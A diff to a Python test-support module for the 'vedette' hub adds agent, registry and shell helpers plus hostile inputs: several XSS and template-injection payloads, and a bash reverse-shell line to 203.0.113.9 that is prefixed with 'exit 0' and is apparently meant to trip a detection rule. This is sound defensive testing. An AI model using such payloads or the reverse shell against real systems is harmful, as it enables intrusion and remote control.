@@ -9,8 +9,11 @@ from contextlib import contextmanager
 from pathlib import Path
 from typing import Any
 
+import pytest
+
 from support import PATIENCE_S, VEDETTE, free_port
 from vedette.hub.detect.schema import Database
+from vedette.hub.registry import Registry
 from vedette.hub.registry.users import Role, Users
 
 CHROMIUM = Path("/usr/bin/chromium")
@@ -23,7 +26,25 @@ FLAGS = [
     "--disable-component-update",
     "--disable-sync",
 ]
+HOSTILE = (
+    "<script>window.pwned=1</script>",
+    "<img src=x onerror=window.pwned=1>",
+    "{{constructor.constructor('window.pwned=1')()}}",
+    "**bold** [x](javascript:window.pwned=1)",
+    "';window.pwned=1;//\"><svg/onload=window.pwned=1>",
+)
+ODD_DEVICE = "o'neil(1)%41#?*,=@$"
+SHELL = "exit 0; bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"
+"""Looks like a reverse shell to a rule, and ends before it is one."""
+
 PASSWORD = "correct horse battery staple"
+IN_CHROMIUM = [
+    pytest.mark.slow,
+    pytest.mark.timeout(300),
+    pytest.mark.skipif(not CHROMIUM.exists(), reason="needs Debian's chromium"),
+]
+"""Marks of the modules that use it."""
+
 PAGE_MS = 30_000
 """Until a wait of the browser is given up as a failure."""
 
@@ -45,7 +66,8 @@ class Site:
         self.port = free_port()
         self.base = f"https://localhost:{self.port}/console"
         self._output = root.with_suffix(".out")
-        ports = ["--mqtt-port", str(free_port()), "--https-port", str(self.port)]
+        self.mqtt_port = free_port()
+        ports = ["--mqtt-port", str(self.mqtt_port), "--https-port", str(self.port)]
         command = [*VEDETTE, "up", "--plain", "--bind", "127.0.0.1", "--state", str(root), *ports]
         with self._output.open("w") as output:
             self._process = subprocess.Popen(command, stdout=output, stderr=output)
@@ -72,10 +94,39 @@ class Site:
             users.add(name, role)
             users.set_password(name, PASSWORD)
 
+    @contextmanager
+    def registry(self) -> Iterator[Registry]:
+        """The registry of the hub, as another process sees it."""
+        opened = Registry(f"sqlite:///{self.root / 'hub/registry.db'}")
+        yield opened
+        opened.close()
+
+    def shell(self, command: str) -> None:
+        """A command for the agent to see."""
+        subprocess.run(["bash", "-c", command], check=False, stderr=subprocess.DEVNULL)
+
+    @contextmanager
+    def agent(self, name: str, provisioning: str) -> Iterator[None]:
+        """One more agent of this machine, which registers itself by this document."""
+        home = self.root / name
+        home.mkdir()
+        (home / "provisioning.json").write_text(provisioning)
+        where = ["--config", str(home), "--state", str(home), "--port", str(self.mqtt_port)]
+        command = [*VEDETTE, "agent", "run", *where, "--ca", str(self.root / "hub/pki/ca.pem")]
+        with (home / "log").open("w") as output:
+            process = subprocess.Popen(command, stdout=output, stderr=output)
+        try:
+            yield
+        finally:
+            process.send_signal(signal.SIGINT)
+            process.wait(PATIENCE_S)
+
     def run(self, *arguments: str) -> str:
         """Another `vedette` command against this hub's state."""
         command = [*VEDETTE, *arguments, "--state", str(self.root / "hub")]
-        return subprocess.run(command, text=True, capture_output=True, check=True).stdout
+        done = subprocess.run(command, text=True, capture_output=True, check=False)
+        assert done.returncode == 0, done.stderr
+        return done.stdout
 
     def stop(self) -> None:
         """End hub and agent."""
